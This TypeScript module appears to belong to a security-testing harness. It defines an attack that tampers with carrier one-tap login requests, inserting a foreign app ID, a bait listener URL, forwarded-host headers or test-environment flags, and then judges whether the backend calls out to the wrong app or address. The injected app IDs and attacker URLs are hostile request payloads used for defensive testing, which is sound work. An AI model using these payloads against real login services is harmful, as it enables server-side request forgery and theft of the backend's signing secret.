import { type Bait, defineAttack, type Judgement, type Tamper } from '../../src/contract/attack.ts'
import type { IssuedToken } from '../../src/contract/journal.ts'
import type { Json } from '../../src/contract/json.ts'
import { type Attempt, attemptLogin, type OpenAttempt } from '../kit/attempt.ts'
import { count, fail, inconclusive, pass } from '../kit/judging.ts'
import { judgePosing, type PosingAttempt, withForeignCalls } from '../kit/posing.ts'
import { jsonFields, withFields, withHeaders, withQuery } from '../kit/tamper.ts'
import { loginWith } from '../kit/tokens.ts'

type Observation = {
  attempts: PosingAttempt[]
  honest: Attempt
  baitCalls: string[]
}

/** What one login says beside what an honest one says. */
type Wish = { name: string; appId?: string; tamper?: Tamper }

export default defineAttack<Observation>({
  meta: {
    id: 'su-client-appid',
    family: 'substitution',
    title: 'Client says as whom, and where, the carrier is asked',
    about:
      "Logs in with genuine tokens while naming another app, several apps, another environment or the attacker's own address as the carrier's. A call in another app's name, or to that address, means that clients write the configuration: the secret the backend signs with then goes where they say.",
    severity: 'high',
    cwe: [639, 918, 302],
    asvs: ['13.2.4', '1.3.6'],
    api2023: ['API7', 'API10'],
    has: 'valid tokens of an own number; an app of its own at the carrier',
    needs: ['oneTap', 'me'],
    notices: ['app-binding=client-picks-endpoint'],
  },

  async observe(lab) {
    const bait = await lab.bait()
    const phone = await lab.handset()
    const foreign = (await phone.authorize({ app: 'foreign' })).appId
    const open: (OpenAttempt & { ours: string })[] = []
    let ours = ''
    for (const wish of wishes(foreign, (await phone.authorize()).appId, bait)) {
      const opened = await attemptLogin(lab, wish.name, async () => {
        const issued = await (await lab.handset(phone.sim.carrier)).authorize()
        ours = issued.appId
        return craft(issued, await lab.nonce(), wish)
      })
      open.push({ ...opened, ours })
    }
    const last = await lab.handset(phone.sim.carrier)
    const honest = await attemptLogin(lab, 'nothing said', async () => ({
      input: loginWith(await last.authorize(), await lab.nonce()),
      watch: [],
    }))
    const attempts = await withForeignCalls(lab, open)
    return { attempts, honest: honest.attempt, baitCalls: [...bait.calls()] }
  },

  judge({ attempts, honest, baitCalls }): Judgement {
    const [call] = baitCalls
    const exchanges = attempts.map(({ exchange }) => exchange)
    if (call !== undefined)
      return fail(
        'The target sent a request to an address that a login named.',
        'outside-call',
        `The attacker's listener was called: ${call}.`,
        { exchanges, expected: 'no request but to the configured carrier', observed: `${baitCalls.length} requests` },
      )
    const posed = judgePosing(attempts, many => `${many} of ${attempts.length} logins led to calls under another`)
    if (posed !== undefined) return posed
    if (honest.account === null) return inconclusive('No call was misled, but an honest login did not succeed either.')
    return pass(`${count(attempts.length, 'login')} that named apps and addresses led to calls in the target's own name only.`)
  },
})

function craft(issued: IssuedToken, nonce: string | undefined, { appId, tamper }: Wish) {
  const honest = loginWith(issued, nonce)
  return {
    input: appId === undefined ? honest : { ...honest, appId },
    watch: [issued.token],
    ...(tamper === undefined ? {} : { tamper }),
  }
}

function wishes(foreign: string, own: string, bait: Bait): Wish[] {
  const app = { appid: foreign, app_id: foreign, appKey: foreign, clientId: foreign }
  const place = {
    baseUrl: bait.url,
    carrierUrl: bait.url,
    host: bait.url.replace('http://', ''),
    endpoint: bait.url,
    url: bait.url,
  }
  const test = { env: 'test', source: 'test', sandbox: 'true' }
  return [
    { name: 'another app', appId: foreign },
    { name: 'both apps in a list', tamper: inPlaceOf(own, [own, foreign]) },
    { name: 'another app in more fields', tamper: withFields(app) },
    { name: 'another app in the query', tamper: withQuery(app) },
    { name: 'another app in headers', tamper: withHeaders({ 'x-app-id': foreign, 'x-appkey': foreign }) },
    { name: 'an own address in fields', tamper: withFields(place) },
    { name: 'an own address in the query', tamper: withQuery(place) },
    { name: 'an own address in headers', tamper: withHeaders({ 'x-forwarded-host': place.host, 'x-carrier-url': bait.url }) },
    { name: 'a test environment', tamper: withFields(test) },
  ]
}

/** Another value wherever the body has this text as a field's value; unchanged where it is not a JSON object. */
function inPlaceOf(text: string, value: Json): Tamper {
  return request => {
    const fields = jsonFields(request)
    if (fields === undefined) return request
    const changed = Object.entries(fields).map(([name, old]) => [name, old === text ? value : old])
    return { ...request, body: JSON.stringify(Object.fromEntries(changed)) }
  }
}
